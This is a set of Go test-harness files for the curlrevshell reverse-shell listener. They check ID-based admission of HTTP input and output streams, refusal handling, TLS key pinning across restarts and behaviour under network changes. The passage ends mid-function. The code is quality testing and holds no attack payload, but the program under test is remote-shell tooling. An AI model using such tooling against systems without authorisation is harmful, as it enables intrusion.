		der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, priv.Public(), priv)
		if nil != err {
			ev.Broken("%s", err)
		}
		kder, err := x509.MarshalPKCS8PrivateKey(priv)
		if nil != err {
			ev.Broken("%s", err)
		}
		path := filepath.Join(base, "cache-"+kind, "cert.txtar")
		if err := sstls.SaveCertificate(path, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kder})); nil != err {
			ev.Broken("%s", err)
		}
		caches = append(caches, struct{ name, path string }{"cache-with-" + kind + "-key", path})
	}
	for _, c := range caches {
		cfg := c05Config{KeySource: c.name, Listen: "127.0.0.1:0"}
		var first string
		for k := 0; k < 3; k++ {
			pin, started := c05RunConfig(r, base, k, cfg, c.path)
			if !started {
				break
			}
			if 0 == k {
				first = pin
			} else if pin != first {
				r.Violate(ev.Violation{Signature: "restart-changes-key/" + c.name, What: fmt.Sprintf("%s: run %d presents another key than run 1", c.name, k+1), Kind: "c05", Replay: cfg})
			}
			r.Add(1)
			r.AddDistinct(1)
		}
	}
}

// c05Overlap: an instance keeps serving what it advertised while the cache
// it loaded from is deleted and re-created by another instance, and two
// instances started together on a fresh path each serve what they advertise.
func c05Overlap(r *ev.Result, base string) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: sig, What: what, Kind: "c05", Replay: map[string]string{"scenario": sig}})
	}
	advertised := func(w *hworld.World) string {
		for _, cl := range w.Startup {
			if m := c05PinRE.FindStringSubmatch(cl.Line); nil != m {
				return m[1]
			}
		}
		return ""
	}
	/* Overlapping restart. */
	cache := filepath.Join(base, "overlap", "cert.txtar")
	a, err := hworld.Start(hworld.Config{CertFile: cache})
	if nil != err {
		ev.Broken("%s", err)
	}
	pa, _ := c05Wire(a, "")
	os.Remove(cache)
	b, err := hworld.Start(hworld.Config{CertFile: cache})
	if nil != err {
		ev.Broken("%s", err)
	}
	pb, _ := c05Wire(b, "")
	for i := 0; i < 3; i++ {
		pa2, _ := c05Wire(a, "")
		if pa2 != advertised(a) || pa2 != pa {
			v("overlap/first-instance-drifts", fmt.Sprintf("instance 1 advertised %q; after the cache was deleted and re-created by instance 2 it presents %q", advertised(a), pa2))
			break
		}
	}
	if pb != advertised(b) {
		v("overlap/second-instance", fmt.Sprintf("instance 2 advertises %q but presents %q", advertised(b), pb))
	}
	/* The file is touched again (same bytes rewritten, new mtime). */
	if bs, err := os.ReadFile(cache); nil == err {
		os.WriteFile(cache, bs, 0o600)
		if p, _ := c05Wire(a, ""); p != pa {
			v("overlap/first-instance-drifts", fmt.Sprintf("instance 1 presents %q after the cache file was rewritten, it advertised %q", p, pa))
		}
	}
	a.Stop()
	b.Stop()
	/* Simultaneous first start. */
	cache2 := filepath.Join(base, "simultaneous", "cert.txtar")
	ws := make([]*hworld.World, 4)
	var wg sync.WaitGroup
	for i := range ws {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			ws[i], _ = hworld.Start(hworld.Config{CertFile: cache2})
		}(i)
	}
	wg.Wait()
	for i, w := range ws {
		if nil == w {
			continue /* A refused start is not this property's business. */
		}
		for k := 0; k < 2; k++ {
			if p, _ := c05Wire(w, ""); p != advertised(w) {
				v("simultaneous-start", fmt.Sprintf("instance %d of 4 started together on a fresh cache path advertises %q but presents %q", i, advertised(w), p))
			}
		}
	}
	for _, w := range ws {
		if nil != w {
			w.Stop()
		}
	}
	r.Add(2)
	r.AddDistinct(2)
	r.Set("overlap_scenarios", 2)
}

func c05Replay(kind string, raw json.RawMessage) int {
	var cfg c05Config
	if err := json.Unmarshal(raw, &cfg); nil != err || "" == cfg.Listen {
		fmt.Println("scenario findings are replayed by re-running the check (./run C05 quick)")
		return 2
	}
	base := ev.Scratch("c05r-")
	defer os.RemoveAll(base)
	os.MkdirAll(filepath.Join(base, "files"), 0o755)
	os.WriteFile(filepath.Join(base, "custom.tmpl"), []byte("curl one sha256//{{.PubkeyFP}} curl two sha256//{{.PubkeyFP}} url={{.URL}} id={{.ID}}\n"), 0o644)
	r := ev.New("C05", "quick", "exploration")
	cache := ""
	if "none" != cfg.KeySource {
		cache = filepath.Join(base, "cache", "cert.txtar")
	}
	for k := 0; k < 2; k++ {
		pin, started := c05RunConfig(r, base, 0, cfg, cache)
		fmt.Printf("run %d: started=%v wire pin %q\n", k+1, started, pin)
	}
	if r.NViolations() > 0 {
		for _, x := range r.Violations {
			fmt.Println(x.Signature, x.What)
		}
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

func keysOf(m map[string]bool) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
