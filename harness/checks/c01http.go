package checks

/*
 * The HTTP seam of C01: the same admission rule, observed through the real
 * handlers over TLS.  A handler that mangled the ID on its way to the broker
 * (decoding, case, truncation) would pass every broker-level check.
 */

import (
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type c01Stream struct {
	Dir  string `json:"dir"` /* i | o | io */
	Wire string `json:"id_on_the_wire"`
}

func (s c01Stream) id() string {
	u, _ := url.PathUnescape(s.Wire)
	return u
}

// open sends the request for s on a new connection.
func (s c01Stream) open(w *hworld.World) (*hworld.Conn, error) {
	c, err := w.Dial("")
	if nil != err {
		return nil, err
	}
	switch s.Dir {
	case "i":
		err = c.Send(hworld.Get("/i/"+s.Wire, w.Addr))
	case "o":
		err = c.Send("POST /o/" + s.Wire + " HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	default:
		err = c.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
	}
	return c, err
}

func c01HTTP(r *ev.Result) {
	ids := []string{"k", "kk", "K", "k%2Fx", "k%20", "%6B", "%256B"} /* %6B decodes to k; %256B decodes to the three characters %6B, another ID */
	var streams []c01Stream
	for _, id := range ids {
		streams = append(streams, c01Stream{"i", id}, c01Stream{"o", id})
	}
	streams = append(streams, c01Stream{Dir: "io"})
	n := 0
	before := r.NViolations()
	for _, first := range streams {
		for _, second := range streams {
			n++
			c01HTTPPair(r, first, second)
			if r.NViolations() >= before+8 {
				/* Enough to report; every failing pair costs a watchdog. */
				r.Set("http_seam_stopped_early_after_pairs", n)
				break
			}
		}
	}
	c01HTTPRefusedStreamer(r)
	n++
	c01HTTPRefusalBurst(r)
	n++
	r.Evaluations += n
	r.Distinct += n
	r.Traces += n
	r.Set("http_seam_pairs", n)
	r.Sample(12, map[string]any{"http_seam": []c01Stream{{"i", "k%2Fx"}, {"o", "k%2Fx"}}, "expected": "second accepted (IDs equal after decoding)"})
}

// c01HTTPRefusedStreamer: a refused /o client that keeps uploading is let go
// of (net/http gives a returned handler's unread body 256 KiB of grace); the
// server must have answered by the time 2 MiB were offered.
func c01HTTPRefusedStreamer(r *ev.Result) {
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	held, err := c01Stream{"o", "held"}.open(w)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer held.Close()
	w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Output connected") })
	c2, err := c01Stream{"o", "other"}.open(w)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer c2.Close()
	if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Rejected ") }); !ok {
		return /* The pair enumeration reports that. */
	}
	answered := make(chan error, 1)
	go func() { _, err := c2.ReadResponse("POST"); answered <- err }()
	blob := chunk(strings.Repeat("refused upload ", 4096)) /* 60 KiB */
	sent := 0
	for i := 0; i < 36; i++ {
		select {
		case <-answered:
			return /* Let go of: fine. */
		default:
		}
		if err := c2.Send(blob); nil != err {
			return /* Connection closed on us: fine too. */
		}
		sent += len(blob)
	}
	select {
	case <-answered:
	case <-time.After(10 * time.Second):
		r.Violate(ev.Violation{Signature: "http/refused-upload-never-ends", What: fmt.Sprintf("a refused /o request was still being read after %d bytes of its upload; the attempt is not ended", sent), Kind: "c01http", Replay: map[string]any{"http_seam": []c01Stream{{"o", "held"}, {"o", "other"}}}})
	}
	for _, cl := range w.Drain() {
		if cl.Plain && strings.Contains(cl.Line, "refused upload") {
			r.Violate(ev.Violation{Signature: "http/refused-output-shown", What: "output of a refused stream was displayed", Kind: "c01http", Replay: map[string]any{"http_seam": []c01Stream{{"o", "held"}, {"o", "other"}}}})
		}
	}
}

func c01HTTPPair(r *ev.Result, first, second c01Stream) {
	rp := map[string]any{"http_seam": []c01Stream{first, second}}
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "http/" + sig, What: fmt.Sprintf("first %+v then %+v: %s", first, second, what), Kind: "c01http", Replay: rp})
	}
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	c1, err := first.open(w)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer c1.Close()
	wantNotice := func(s c01Stream) string {
		switch s.Dir {
		case "i":
			return fmt.Sprintf("Input connected: ID %q", s.id())
		case "o":
			return fmt.Sprintf("Output connected: ID %q", s.id())
		}
		return "Shell is ready"
	}
	if ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, wantNotice(first)) }); !ok {
		v("first-not-attached", "the first stream on an idle listener was not attached with its ID: "+hworld.NoticeText(ns))
		return
	}
	c2, err := second.open(w)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer c2.Close()
	/* Reference: the second is accepted iff it is the missing direction
	with the same (decoded) ID; /io never mixes with anything. */
	accept := "io" != first.Dir && "io" != second.Dir && first.Dir != second.Dir && first.id() == second.id()
	ns, ok := w.WaitNotice(func(cl opshell.CLine) bool {
		return strings.Contains(cl.Line, "Shell is ready") || strings.Contains(cl.Line, "Rejected ")
	})
	if !ok {
		v("second-no-verdict", "neither a ready notice nor a refusal for the second stream: "+hworld.NoticeText(ns))
		return
	}
	last := ns[len(ns)-1].Line
	if "io" == second.Dir && !accept {
		/* Both halves are refused: a second refusal follows. */
		w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Rejected ") })
	}
	switch {
	case accept && !strings.Contains(last, "Shell is ready"):
		v("second-refused", "the matching second stream was refused: "+last)
		return
	case !accept && strings.Contains(last, "Shell is ready"):
		v("second-accepted", "the second stream must be refused but a shell became ready")
		return
	}
	/* Probes: a line and a chunk go to / come from the attached pair only. */
	w.Drain()
	w.Ich <- "probe-line"
	var in, out *hworld.Conn
	switch {
	case "io" == first.Dir:
		in, out = c1, c1
	case "i" == first.Dir:
		in = c1
		if accept {
			out = c2
		}
	default:
		out = c1
		if accept {
			in = c2
		}
	}
	if nil != in {
		if _, err := in.ReadHeader("GET"); nil != err {
			v("probe-line-not-delivered", "the attached input stream did not get a response: "+err.Error())
			return
		}
		buf := make([]byte, 256)
		got := ""
		for !strings.Contains(got, "probe-line\n") {
			k, err := in.R.Read(buf)
			got += string(buf[:k])
			if nil != err {
				v("probe-line-not-delivered", fmt.Sprintf("the attached input stream got %q, %v", got, err))
				return
			}
		}
	}
	if nil != out {
		out.Send(chunk("probe-chunk\n"))
		if ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return cl.Plain && strings.Contains(cl.Line, "probe-chunk") }); !ok {
			v("probe-chunk-not-shown", "output of the attached stream was not displayed: "+hworld.NoticeText(ns))
			return
		}
	}
	if !accept {
		/* The refused stream ended at once, with nothing in it.  (For a
		request with an unfinished chunked body net/http itself holds the
		response back until the body ends or 256 KiB of it were discarded;
		the handler has long returned.  So the body is ended first, after
		one more chunk which must not be displayed.) */
		if "i" != second.Dir {
			c2.Send(chunk("refused-chunk\n") + "0\r\n\r\n")
		}
		res, err := c2.ReadResponse("GET")
		if nil != err {
			v("refused-not-ended", "the refused stream's response did not end: "+err.Error())
			return
		}
		if strings.Contains(string(res.Body), "probe-line") {
			v("refused-got-input", "the refused stream received the operator's line")
		}
		for _, cl := range w.Drain() {
			if cl.Plain && strings.Contains(cl.Line, "refused-chunk") {
				v("refused-output-shown", "output of the refused stream was displayed")
			}
		}
	}
}

func init() {
	workers["c01http"] = func([]string) int {
		r := ev.New("C01", "quick", "model_checking")
		ids := []string{"k", "K", "k%2Fx"}
		var streams []c01Stream
		for _, id := range ids {
			streams = append(streams, c01Stream{"i", id}, c01Stream{"o", id})
		}
		streams = append(streams, c01Stream{Dir: "io"})
		for _, a := range streams {
			for _, b := range streams {
				t := time.Now()
				c01HTTPPair(r, a, b)
				if d := time.Since(t); d > time.Second {
					fmt.Printf("%+v %+v took %v\n", a, b, d)
				}
			}
		}
		for _, v := range r.Violations {
			fmt.Println(v.Signature, v.What)
		}
		return 0
	}
}

// c01HTTPRefusalBurst: one host makes several attempts that must be refused,
// one right after the other; the operator is told about every one of them.
func c01HTTPRefusalBurst(r *ev.Result) {
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	held, err := c01Stream{"i", "held"}.open(w)
	if nil != err {
		ev.Broken("%s", err)
	}
	defer held.Close()
	w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Input connected") })
	burst := []c01Stream{{"o", "other-1"}, {"i", "held"}, {"o", "other-2"}, {"i", "third"}, {"o", "other-3"}}
	var conns []*hworld.Conn
	for _, s := range burst {
		c, err := s.open(w)
		if nil != err {
			ev.Broken("%s", err)
		}
		conns = append(conns, c)
	}
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	n := 0
	ns, _ := w.WaitNotice(func(cl opshell.CLine) bool {
		if strings.Contains(cl.Line, "Rejected ") {
			n++
		}
		return n >= len(burst)
	})
	if n != len(burst) {
		r.Violate(ev.Violation{Signature: "http/refusal-not-announced/burst", Kind: "c01http", Replay: map[string]any{"http_seam": burst},
			What: fmt.Sprintf("with an input stream held, one host made %d attempts that must be refused, one right after the other (%+v): the operator was told about %d of them: %s", len(burst), burst, n, trunc80(hworld.NoticeText(ns)))})
	}
}
