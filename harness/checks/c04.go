package checks

import (
	"os"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/bworld"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C04"] = checkDef{level: "model_checking", run: c04, replay: brokerReplayFunc}
}

// c04Profiles: every way a direction can end (EOF, transport error, data
// with error, write/flush failure, cancellation, operator input closed,
// shutdown), in every state of a shell's life, over successive shells; and
// the stalled-terminal flood.
func c04Profiles(quick bool) (ps []*bworld.Profile) {
	endings := bworld.Profile{
		Name:   "c04-endings",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "in", Key: "k", WKind: 2, Max: 2}, {Kind: "out", Key: "k", Max: 2},
			{Kind: "out", Key: "j", Max: 1},
		},
		MaxAttempts: 4,
		MaxLines:    1,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>", Err: "eof"}, {Err: "other"}},
		MaxOuts:     1,
		Cancel:      true,
		Shutdown:    true,
		WFail:       true,
		Oracles:     []string{"C04"},
	}
	io := bworld.Profile{
		Name:   "c04-io-endings",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "io", WKind: 3, Max: 2}, {Kind: "in", Key: "k", WKind: 1, Max: 1},
		},
		MaxAttempts: 3,
		MaxLines:    1,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}, {Err: "ueof"}, {Data: "<chunk#>", Err: "other"}},
		MaxOuts:     2,
		Cancel:      true,
		Shutdown:    true,
		CloseIn:     true,
		WFail:       true,
		Oracles:     []string{"C04"},
	}
	flood := bworld.Profile{
		Name:   "c04-flood-stalled-terminal",
		OchCap: 0,
		Starts: []bworld.StartSpec{
			{Kind: "out", Key: "k", Max: 1}, {Kind: "in", Key: "k", Max: 1},
		},
		MaxAttempts: 2,
		Outs:        []bworld.OutSpec{{Data: "<chunk#>"}},
		MaxOuts:     4,
		Cancel:      true,
		Shutdown:    true,
		MaxConsume:  8,
		Oracles:     []string{"C04"},
	}
	/* The window between "attached" and "proxy running": a shutdown (or
	anything else) landing exactly there. */
	window := bworld.Profile{
		Name:   "c04-admitted-window",
		OchCap: 1024,
		Starts: []bworld.StartSpec{
			{Kind: "in", Key: "k", WKind: 2, Max: 1}, {Kind: "out", Key: "k", Max: 2}, {Kind: "io", WKind: 3, Max: 1},
		},
		MaxAttempts:  3,
		MaxLines:     1,
		Outs:         []bworld.OutSpec{{Data: "<chunk#>", Err: "eof"}},
		MaxOuts:      1,
		Cancel:       true,
		Shutdown:     true,
		GateAdmitted: true,
		Oracles:      []string{"C04"},
	}
	if quick {
		window.MaxAttempts = 2
		window.Cancel = false
		defer func() { ps = append(ps, &window) }()
		endings.MaxAttempts = 3
		io.MaxAttempts = 2
		io.CloseIn = false
		io.Outs = io.Outs[1:]
		io.MaxOuts = 1
		return []*bworld.Profile{&flood, &endings, &io}
	}
	flood.MaxOuts = 6
	flood.MaxConsume = 12
	io.MaxAttempts = 3
	return []*bworld.Profile{&endings, &io, &flood, &window}
}

func c04(r *ev.Result, tier string) {
	r.Rule = brokerRule
	budget := 120 * time.Second /* a cap for a loaded machine; idle runs need ~20 s */
	if !isQuick(tier) {
		budget = 15 * time.Minute
	}
	exploreProfiles(r, budget, c04Profiles(isQuick(tier))...)
	/* The HTTP seam: the same clauses through the real handlers over TLS. */
	c04HTTP(r)
	c04Events(r)
	quietSpell(r, "C04")
	c04ManyShells(r, 1100)
	/* The real binary under every boolean flag: three shells in a row. */
	{
		base := ev.Scratch("c04-")
		c04RealBinary(r, base)
		c04NetworkChanges(r, base)
		c04RealQuit(r, base)
		os.RemoveAll(base)
	}
	if !isQuick(tier) {
		brokerRacePass(r)
	}
}
