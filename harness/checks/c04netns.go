package checks

/*
 * C04 while the machine's network changes: the real binary as it starts by
 * default (every address, no callback address given) in a private network
 * namespace whose one non-loopback interface loses its address while a shell
 * is attached (the VPN the shell came over goes away), gets it back, and is
 * joined by another one.  After every shell the next one is accepted.
 *
 * Needs unshare(1), ip(8), veth and the right to use them; where they are
 * missing the scenario is skipped and the evidence says so.
 */

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifx/ev"
)

type c04NetnsReport struct {
	Skipped string   `json:"skipped,omitempty"`
	Shells  int      `json:"shells"`
	Viols   []string `json:"viols,omitempty"`
}

func init() {
	workers["c04netns"] = func(args []string) int {
		var rep c04NetnsReport
		defer func() { json.NewEncoder(realStdout).Encode(rep) }()
		ip := func(args ...string) error {
			out, err := exec.Command("ip", args...).CombinedOutput()
			if nil != err {
				return fmt.Errorf("ip %s: %v: %s", strings.Join(args, " "), err, strings.TrimSpace(string(out)))
			}
			return nil
		}
		for _, c := range [][]string{{"link", "set", "lo", "up"}, {"link", "add", "vf0", "type", "veth", "peer", "name", "vf1"}, {"addr", "add", "10.99.98.1/24", "dev", "vf0"}, {"link", "set", "vf0", "up"}, {"link", "set", "vf1", "up"}} {
			if err := ip(c...); nil != err {
				rep.Skipped = err.Error()
				return 0
			}
		}
		dir, _ := os.MkdirTemp(args[0], "netns-")
		defer os.RemoveAll(dir)
		p, addr, err := startReal(dir, "-listen-address", "0.0.0.0:0", "-tls-certificate-cache", filepath.Join(dir, "c.txtar"))
		if nil != err {
			rep.Skipped = "the program does not start in the namespace: " + err.Error()
			return 0
		}
		defer p.Close()
		_, port, _ := strings.Cut(addr[strings.LastIndex(addr, ":"):], ":")
		addr = "127.0.0.1:" + port
		/* What happens to the network while shell k is attached. */
		steps := []struct {
			what string
			cmds [][]string
		}{
			{"nothing", nil},
			{"the only non-loopback interface loses its address", [][]string{{"addr", "del", "10.99.98.1/24", "dev", "vf0"}}},
			{"still no address anywhere but on the loopback", nil},
			{"the interface gets its address back", [][]string{{"addr", "add", "10.99.98.1/24", "dev", "vf0"}}},
			{"another interface with an address appears", [][]string{{"link", "add", "vg0", "type", "veth", "peer", "name", "vg1"}, {"addr", "add", "10.99.97.1/24", "dev", "vg0"}, {"link", "set", "vg0", "up"}}},
			{"the first interface is removed altogether", [][]string{{"link", "del", "vf0"}}},
		}
		for k, st := range steps {
			from := len(p.Output())
			ci, co, err := realShell(p, addr, fmt.Sprintf("ns%d", k), from)
			if nil != err {
				rep.Viols = append(rep.Viols, fmt.Sprintf("shell number %d is not accepted (while shell number %d was attached: %s): %v", k+1, k, steps[max(k-1, 0)].what, err))
				return 0
			}
			for _, c := range st.cmds {
				if err := ip(c...); nil != err {
					rep.Skipped = err.Error()
					ci.Close()
					co.Close()
					return 0
				}
			}
			co.Send("0\r\n\r\n")
			gone := p.WaitFor(regexp.MustCompile(`Shell is gone`), from, 30*time.Second) >= 0
			ci.Close()
			co.Close()
			if !gone {
				rep.Viols = append(rep.Viols, fmt.Sprintf("shell number %d ended (while it was attached: %s): no 'gone' notice: %s", k+1, st.what, trunc300(p.Output()[from:])))
				return 0
			}
			rep.Shells++
		}
		/* And the program is still there to be left properly. */
		if st := stopReal(p); 0 != st {
			rep.Viols = append(rep.Viols, fmt.Sprintf("exit status %d after %d shells (Ctrl+D): %s", st, rep.Shells, tail(p.Output(), 300)))
		}
		return 0
	}
}

// c04NetworkChanges runs the worker in a private network namespace.
func c04NetworkChanges(r *ev.Result, base string) {
	if _, err := exec.LookPath("unshare"); nil != err {
		r.Set("network_changes", "not run: no unshare(1)")
		return
	}
	self, _ := os.Executable()
	out, err := exec.Command("unshare", "-n", self, "worker", "c04netns", base).Output()
	var rep c04NetnsReport
	if jerr := json.Unmarshal(out, &rep); nil != err || nil != jerr {
		r.Set("network_changes", fmt.Sprintf("not run: unshare -n: %v %v", err, jerr))
		return
	}
	if "" != rep.Skipped {
		r.Set("network_changes", "not run: "+rep.Skipped)
		return
	}
	r.Set("network_changes", fmt.Sprintf("%d shells in series in a private network namespace whose interfaces lose and gain addresses meanwhile", rep.Shells))
	r.Add(rep.Shells)
	r.AddDistinct(rep.Shells)
	r.Traces += rep.Shells
	for _, v := range rep.Viols {
		r.Violate(ev.Violation{Signature: "binary/network-changes", What: "real binary listening on every address (0.0.0.0:0, no -callback-address) in a private network namespace: " + v, Kind: "c04real", Replay: map[string]string{"scenario": "network changes"}})
	}
}
