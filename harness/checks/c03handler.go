package checks

/*
 * The handler seam of C03: requests whose body is a scripted reader are put
 * through the real handler tree (mux, outputHandler / inOutHandler, whatever
 * they wrap the body in) into the real broker, without a network.  Over real
 * connections net/http cancels the request's context together with every
 * terminal read error; here the context stays alive, so "data returned
 * together with the terminal error" reaches the broker as the statement's
 * quantifier describes it.  Every sequence of <=3 read results is run.
 */

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type hsRes struct {
	name string
	data bool
	err  error
}

var hsAlphabet = []hsRes{
	{"data", true, nil},
	{"data+eof", true, io.EOF},
	{"data+unexpected-eof", true, io.ErrUnexpectedEOF},
	{"data+closed-pipe", true, io.ErrClosedPipe},
	{"data+reset", true, &net.OpError{Op: "read", Net: "tcp", Err: syscall.ECONNRESET}},
	{"data+other", true, errors.New("transport error of the harness")},
	{"eof", false, io.EOF},
	{"unexpected-eof", false, io.ErrUnexpectedEOF},
}

// hsBody is the scripted request body.
type hsBody struct {
	mu   sync.Mutex
	seq  []hsRes
	i    int
	sent strings.Builder
	hold chan struct{} /* Closed when the script is exhausted without a terminal result. */
	gate chan struct{} /* The first Read waits for this: everything is attached. */
}

func (b *hsBody) Read(p []byte) (int, error) {
	<-b.gate
	b.mu.Lock()
	if b.i >= len(b.seq) {
		b.mu.Unlock()
		<-b.hold
		return 0, io.EOF
	}
	r := b.seq[b.i]
	b.i++
	n := 0
	if r.data {
		s := fmt.Sprintf("<read %d: %s>\n", b.i, r.name)
		n = copy(p, s)
		b.sent.WriteString(s[:n])
	}
	b.mu.Unlock()
	return n, r.err
}
func (b *hsBody) Close() error { return nil }

// hsWriter is a response writer with what a real one offers a handler.
type hsWriter struct {
	mu  sync.Mutex
	h   http.Header
	buf strings.Builder
}

func (w *hsWriter) Header() http.Header { return w.h }
func (w *hsWriter) WriteHeader(int)     {}
func (w *hsWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.Write(p)
}
func (w *hsWriter) Flush()                  {}
func (w *hsWriter) FlushError() error       { return nil }
func (w *hsWriter) EnableFullDuplex() error { return nil }

func c03Handler(r *ev.Result) {
	var seqs [][]hsRes
	var rec func(cur []hsRes)
	rec = func(cur []hsRes) {
		if 0 != len(cur) && nil != cur[len(cur)-1].err {
			seqs = append(seqs, append([]hsRes{}, cur...))
			return
		}
		if 3 == len(cur) {
			return
		}
		for _, a := range hsAlphabet {
			rec(append(cur, a))
		}
	}
	rec(nil)
	n := 0
	before := r.NViolations()
	for _, target := range []string{"/o/k", "/io"} {
		for _, seq := range seqs {
			if r.NViolations() >= before+6 {
				break
			}
			var names []string
			for _, x := range seq {
				names = append(names, x.name)
			}
			v := func(sig, what string) {
				r.Violate(ev.Violation{Signature: "handler/" + sig + target, What: fmt.Sprintf("POST %s through the real handler, body reads %v: %s", target, names, what), Kind: "c03handler", Replay: map[string]any{"target": target, "reads": names}})
			}
			w, err := hworld.Start(hworld.Config{})
			if nil != err {
				ev.Broken("%s", err)
			}
			body := &hsBody{seq: seq, hold: make(chan struct{}), gate: make(chan struct{})}
			req := httptest.NewRequest("POST", target, body)
			req.RemoteAddr = "192.0.2.7:4444"
			done := make(chan struct{})
			go func() {
				defer close(done)
				w.Srv.VerifHandler().ServeHTTP(&hsWriter{h: http.Header{}}, req)
			}()
			/* The stream starts delivering once it is attached (for /io:
			once both halves are; a half that comes after the other one
			has already ended is a different story, C04's). */
			attached := "Output connected"
			if "/io" == target {
				attached = "Shell is ready"
			}
			if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, attached) }); !ok {
				v("not-attached", "the request did not attach")
			}
			close(body.gate)
			/* The handler returns when the stream has ended; by then
			everything it had to say is in the operator's channel. */
			ok := true
			select {
			case <-done:
			case <-time.After(hworld.Watchdog):
				ok = false
				if "" != os.Getenv("VERIF_DEBUG_STACKS") {
					buf := make([]byte, 1<<20)
					os.Stderr.Write(buf[:runtime.Stack(buf, true)])
					os.Exit(3)
				}
			}
			shown, closedSeen, plainAfter := "", false, false
			for _, cl := range w.Drain() {
				switch {
				case cl.Plain && closedSeen:
					plainAfter = true
				case cl.Plain:
					shown += cl.Line
				case strings.Contains(cl.Line, "connection closed"):
					closedSeen = true
				}
			}
			body.mu.Lock()
			sent := body.sent.String()
			body.mu.Unlock()
			switch {
			case !ok:
				v("not-ended", fmt.Sprintf("the body ended by itself, the handler did not return (shown %q)", trunc80(shown)))
			case shown != sent:
				v("output-incomplete-at-close", fmt.Sprintf("the body delivered %q before it ended by itself, the operator was shown %q", sent, shown))
			case plainAfter:
				v("output-after-close-notice", "output was shown after the notice that the connection closed")
			}
			close(body.hold)
			if ok {
				<-done
			}
			w.Stop()
			n++
		}
	}
	r.Add(n)
	r.AddDistinct(n)
	r.Traces += n
	r.Set("handler_seam_read_scripts", n)
}
