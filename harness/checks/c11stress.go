package checks

/*
 * A free-running complement to C11's exploration: a log sink that is slow
 * (every record takes a while and yields the processor) while output is
 * delivered and the stream is then cancelled.  In the gated exploration the
 * world is quiescent between events, so a record that is handed to some
 * background writer always gets written before the next event; here the
 * cancellation can overtake it.  Oracle, evaluated when the Connect call and
 * Broker.Do have returned: the output records are, in order, the chunks that
 * were handed to the operator.  Samples the runtime's schedules; it can only
 * ever add findings.
 */

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"runtime"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type slowLog struct {
	mu   sync.Mutex
	recs []string
}

func (h *slowLog) Enabled(context.Context, slog.Level) bool { return true }
func (h *slowLog) WithAttrs([]slog.Attr) slog.Handler       { return h }
func (h *slowLog) WithGroup(string) slog.Handler            { return h }
func (h *slowLog) Handle(_ context.Context, r slog.Record) error {
	if iobroker.LMShellIO == r.Message {
		time.Sleep(300 * time.Microsecond)
		runtime.Gosched()
		d := ""
		r.Attrs(func(a slog.Attr) bool {
			if iobroker.LKData == a.Key {
				d = a.Value.String()
			}
			return true
		})
		h.mu.Lock()
		h.recs = append(h.recs, d)
		h.mu.Unlock()
	}
	return nil
}

func c11SlowLogStress(r *ev.Result, rounds int) {
	n := 0
	for round := 0; round < rounds; round++ {
		for _, how := range []string{"cancel-stream", "shutdown", "eof"} {
			ich := make(chan string, 4)
			och := make(chan opshell.CLine, 1024)
			b, err := hworld.NewBroker(ich, och)
			if nil != err {
				ev.Broken("%s", err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { defer wg.Done(); b.Do(ctx) }()
			lh := &slowLog{}
			sl := slog.New(lh)
			pr, pw := io.Pipe()
			sctx, scancel := context.WithCancel(ctx)
			done := make(chan struct{})
			go func() { defer close(done); b.ConnectOut(sctx, sl, "stress", pr, "k") }()
			const nChunks = 12
			for i := 0; i < nChunks; i++ {
